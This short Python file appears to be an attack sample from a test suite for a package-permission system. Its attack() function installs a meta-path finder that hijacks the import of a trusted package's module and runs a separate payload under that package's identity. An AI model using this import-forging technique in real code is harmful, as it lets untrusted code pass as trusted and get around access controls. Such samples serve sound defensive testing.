"""A finder wraps the loader of a granted package."""
CATEGORY = "forging"
REACH = "net"

import sys
from importlib.machinery import PathFinder

from . import payload


class Loader:

    def __init__(self, loader):
        self.loader = loader

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        exec(compile(payload.SOURCE, module.__file__, "exec"),
             vars(module))

    def __getattr__(self, name):
        return getattr(self.loader, name)


class Finder:

    @staticmethod
    def find_spec(name, path=None, target=None):
        if name == "good.extra":
            import good
            spec = PathFinder.find_spec("settings", good.__path__)
            spec.name = name
            spec.loader = Loader(spec.loader)
            return spec


def attack():
    sys.meta_path.insert(0, Finder)
    import good.extra
